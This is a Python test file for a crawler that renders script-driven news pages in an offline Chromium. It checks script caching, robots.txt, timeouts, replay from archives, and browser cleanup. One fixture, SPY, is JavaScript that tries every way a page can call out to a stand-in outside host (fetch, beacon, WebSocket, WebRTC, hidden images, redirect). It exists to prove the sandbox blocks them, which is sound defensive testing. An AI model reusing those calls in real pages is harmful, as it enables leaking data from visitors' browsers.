"""Sources whose pages are empty without their scripts, in a real browser that has no network."""

from __future__ import annotations

import importlib.util
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from crawler.fetch.chromium import PROGRAMS
from crawler.sources import Source
from tests.conftest import Scrapy
from tests.crawls import ROOT, Crawl, crawl, going, rows, sources_file, urls
from tests.fetch.test_archive import checked, records
from tests.markup import Story, rss, stories
from tests.server import Body, Computed, Server, Site

pytestmark = [
    pytest.mark.skipif(
        importlib.util.find_spec("playwright") is None, reason="the extra browser is not installed"
    ),
    pytest.mark.skipif(
        not any(map(shutil.which, PROGRAMS)), reason="no chromium here: apt install chromium"
    ),
]

JAVASCRIPT = "text/javascript"
# Draws what the site's own API says of the page.
APP = """
fetch('/api' + location.pathname).then(answer => answer.text()).then(text => {
    const read = new DOMParser().parseFromString(text, 'text/html');
    document.title = read.title;
    document.head.append(...read.querySelectorAll('script'));
    document.body.innerHTML = read.body.innerHTML;
});
"""
# Every way out that a page has, to a server that nobody may be led to.
SPY = """
const there = 'http://HOST/';
const tries = [
    () => fetch(there + 'fetch', {mode: 'no-cors'}),
    () => navigator.sendBeacon(there + 'beacon', 'x'),
    () => new WebSocket(there.replace('http', 'ws') + 'socket'),
    () => new EventSource(there + 'events'),
    () => window.open(there + 'popup'),
    () => { document.createElement('img').src = there + 'picture'; },
    () => { const f = document.createElement('iframe'); f.src = there; document.body.append(f); },
    () => { const s = document.createElement('script'); s.src = there; document.head.append(s); },
    () => {
        const call = new RTCPeerConnection({iceServers: [{urls: 'stun:' + 'HOST'}]});
        call.createDataChannel('x');
        call.createOffer().then(offer => call.setLocalDescription(offer));
    },
    () => { const s = new XMLHttpRequest(); s.open('POST', there); s.send('x'); },
    () => {  // who leaves before it is drawn has nothing to show
        const away = setInterval(() => {
            if (!document.querySelector('article')) return;
            clearInterval(away);
            location.href = there + 'away';
        }, 50);
    },
];
for (const one of tries) { try { one(); } catch (error) {} }
"""


@dataclass(frozen=True, slots=True)
class Rendered:
    """A crawl of the site whose pages are drawn, and what its servers were asked."""

    crawl: Crawl
    data: Path
    site: Site
    outside: Site


def shell(*scripts: str) -> Body:
    tags = "".join(f'<script src="{one}" defer></script>' for one in scripts)
    return Body(
        f'<!doctype html><html lang="en"><head><title>Gazette</title>{tags}</head>'
        '<body><div id="root"></div><img src="/picture.png"></body></html>'
    )


def publish(site: Site, told: list[Story], outside: str) -> None:
    """The site: stories 1 and 2 are drawn, 3 tries to get out, 4 hangs, 5 grows, 6 is forbidden."""
    drawn, twin, spying, hanging, growing, forbidden = told
    site.paths = {
        "/feed": Body(rss((site.url[:-1] + one.path, one) for one in told), "application/rss+xml"),
        "/robots.txt": Body("User-agent: *\nDisallow: /private/\n", "text/plain"),
        "/app.js": Body(APP, JAVASCRIPT),
        "/spy.js": Body(SPY.replace("HOST", outside), JAVASCRIPT),
        "/hang.js": Body("while (true) {}", JAVASCRIPT),
        "/grow.js": Body(
            "document.body.append(document.createComment('x'.repeat(20e6)))", JAVASCRIPT
        ),
        "/private/app.js": Body(APP, JAVASCRIPT),
        drawn.path: shell("/app.js"),
        twin.path: shell("/app.js"),
        spying.path: shell("/spy.js", "/app.js"),
        hanging.path: shell("/hang.js"),
        growing.path: shell("/grow.js"),
        forbidden.path: shell("/private/app.js"),
    }
    site.paths |= {f"/api{one.path}": Body(one.html()) for one in told}


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rendered]:
    folder = tmp_path_factory.mktemp("rendering")
    with Server() as server, Server(address="127.0.0.2") as other:
        site, outside = server.site("gazette"), other.site()
        outside.paths = {"/": Computed(lambda query: Body("found"))}
        publish(site, stories(6), f"127.0.0.2:{other.port}")
        source = Source("gazette", site.url, feeds=(f"{site.url}feed",), javascript=True)
        done = crawl(
            folder / "data", "-s", sources_file(folder / "sources.toml", source),
            "-s", "RENDER_TIMEOUT=3", "-s", "ALLOW_PRIVATE_HOSTS=127.0.0.1/32",
            "-s", "UNHEALTHY_MIN_PAGES=99", "-s", "ARCHIVE_ENABLED=1",
        )  # fmt: skip
        yield Rendered(done, folder / "data", site, outside)


def test_a_page_that_is_empty_without_its_scripts_is_collected(rendered: Rendered) -> None:
    bodies = {row["headline"]: row["article_body"] for row in rows(rendered.data)}
    for story in stories(3):
        told = story.html().partition("<p>")[2].partition("</p>")[0]
        assert told in bodies[story.headline], rendered.crawl.output
    assert len(bodies) == 3


def test_a_script_that_pages_share_is_asked_for_once_and_pictures_never(
    rendered: Rendered,
) -> None:
    asked = rendered.site.targets()
    assert asked.count("/app.js") == 1
    assert "/picture.png" not in asked
    assert f"/api{stories(1)[0].path}" in asked


def test_a_page_gets_no_further_than_we_do(rendered: Rendered) -> None:
    assert "/spy.js" in rendered.site.targets()
    assert rendered.outside.asked == []


def test_robots_txt_holds_for_scripts_too(rendered: Rendered) -> None:
    assert not any(one.startswith("/private/") for one in rendered.site.targets())


@pytest.mark.parametrize(
    ("number", "reason"),
    [(4, "render/timeout"), (5, "extract/too-large"), (6, "article/no-body")],
)
def test_a_page_that_hangs_grows_or_stays_empty_is_refused_and_others_go_on(
    rendered: Rendered, number: int, reason: str
) -> None:
    url = rendered.site.url[:-1] + stories(6)[number - 1].path
    _, why = urls(rendered.data)[url]
    assert why == reason


def test_a_replay_needs_no_browser_to_give_the_same_rows(
    rendered: Rendered, tmp_path: Path
) -> None:
    (file,) = map(str, (rendered.data / "archive").rglob("*.warc.gz"))
    words = ("-s", f"DATA_DIR={tmp_path}", "-s", "BROWSER_PATH=/no/such")
    command = [sys.executable, "-m", "scrapy", "replay", file, *words]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    own = {"run_id", "date_first_seen", "date_downloaded", "warc_file", "warc_record_id"}
    again, before = (
        {row["url"]: {name: row[name] for name in row.keys() - own} for row in rows(folder)}
        for folder in (tmp_path, rendered.data)
    )
    assert again == before


def test_what_was_drawn_is_erased_with_its_answer_and_no_other_page(
    rendered: Rendered, tmp_path: Path, scrapy: Scrapy
) -> None:
    shutil.copytree(rendered.data, tmp_path / "data", symlinks=True)
    story = stories(1)[0]  # whose answer is, byte for byte, the next one's
    url = rendered.site.url[:-1] + story.path
    done = scrapy("erase", "--url", url, "-s", f"DATA_DIR={tmp_path / 'data'}")
    assert done.returncode == 0, done.stderr
    kept = [record for record in records(tmp_path / "data") if record.kind == "conversion"]
    assert [story.headline.encode() in record.block for record in kept] == [False] * 3
    assert checked(tmp_path / "data") == checked(rendered.data)


def test_no_browser_outlives_a_run_that_is_killed(tmp_path: Path) -> None:
    with Server() as server:
        site = server.site("gazette")
        publish(site, stories(6), "127.0.0.2:9")
        source = Source("gazette", site.url, feeds=(f"{site.url}feed",), javascript=True)
        words = ("-s", sources_file(tmp_path / "sources.toml", source))
        with going(tmp_path / "data", *words) as run:
            started = browsers_of(run.pid)
            run.send_signal(signal.SIGKILL)
        until = time.monotonic() + 20
        while left := [pid for pid in started if is_alive(pid)]:
            assert time.monotonic() < until, f"{len(left)} of {len(started)} are still there"
            time.sleep(0.1)


def test_without_a_browser_the_run_says_what_to_do(tmp_path: Path) -> None:
    source = Source("gazette", "http://gazette.localhost/", javascript=True)
    words = ("-s", sources_file(tmp_path / "sources.toml", source))
    done = crawl(tmp_path / "data", *words, "-s", "BROWSER_PATH=/no/such/browser")
    assert done.exit_code == 2
    (sentence,) = done.sentences
    assert "there is no browser (/no/such/browser)" in sentence
    assert "BROWSER_PATH" in sentence


def browsers_of(pid: int) -> list[int]:
    """The processes of the browser that a run has started, once a page is open in it."""
    until = time.monotonic() + 60
    while True:
        family = [one for one in descendants(pid) if "--type=renderer" in command_of(one)]
        if family:
            return [one for one in descendants(pid) if "chrom" in command_of(one)]
        assert time.monotonic() < until, "no browser was started"
        time.sleep(0.1)


def descendants(pid: int) -> Iterator[int]:
    for task in Path(f"/proc/{pid}/task").glob("*/children"):
        try:
            children = task.read_text().split()
        except OSError:  # it ended just now
            continue
        for child in map(int, children):
            yield child
            yield from descendants(child)


def command_of(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_text()
    except OSError:
        return ""


def is_alive(pid: int) -> bool:
    """Whether a process is there, and no mere entry for a parent that does not look."""
    try:
        os.kill(pid, 0)
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False
